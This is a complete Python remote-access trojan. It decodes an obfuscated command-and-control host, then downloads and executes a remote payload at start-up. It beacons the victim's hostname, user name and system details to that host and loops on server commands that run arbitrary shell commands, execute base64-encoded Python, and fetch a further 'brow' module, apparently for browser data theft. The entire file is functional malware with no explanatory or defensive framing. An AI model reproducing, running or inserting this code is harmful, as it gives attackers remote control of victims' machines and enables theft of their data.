import base64,os,platform,socket,json,time,subprocess,getpass
sType = "root"
gType = "pdown"
HOST = base64.b64decode("MTk4LjUxLjEwMC4xMjM=").decode()
PORT = 1244
def ld(p):
    try:
        import urllib.request
        return urllib.request.urlopen("http://%s:%d/%s" % (HOST, PORT, p), timeout=20).read()
    except Exception:
        return b""
class Session:
    def __init__(self):
        self.uuid = "%s_%s" % (socket.gethostname(), getpass.getuser())
        self.s = None
    def info(self):
        return {"uuid": self.uuid, "system": platform.system(), "release": platform.release(), "node": platform.node(), "user": getpass.getuser(), "type": sType}
    def connect(self):
        while True:
            try:
                self.s = socket.create_connection((HOST, PORT + 1), timeout=30)
                self.s.sendall(json.dumps(self.info()).encode() + b"\n")
                return
            except Exception:
                time.sleep(20)
    def loop(self):
        self.connect()
        f = self.s.makefile("rb")
        while True:
            line = f.readline()
            if not line:
                self.connect(); f = self.s.makefile("rb"); continue
            try:
                cmd = json.loads(line)
            except Exception:
                continue
            c = cmd.get("code")
            if c == 1:
                out = subprocess.run(cmd.get("args", ""), shell=True, capture_output=True, timeout=120)
                self.s.sendall(json.dumps({"code": 1, "out": (out.stdout + out.stderr).decode(errors="ignore")}).encode() + b"\n")
            elif c == 4:
                exec(base64.b64decode(cmd.get("src", "")).decode())
            elif c == 5:
                data = ld("brow/" + sType)
                if data:
                    exec(compile(data, "b", "exec"))
home = os.path.expanduser("~")
pay = ld("payload/" + sType)
if pay:
    exec(compile(pay, "p", "exec"))
Session().loop()
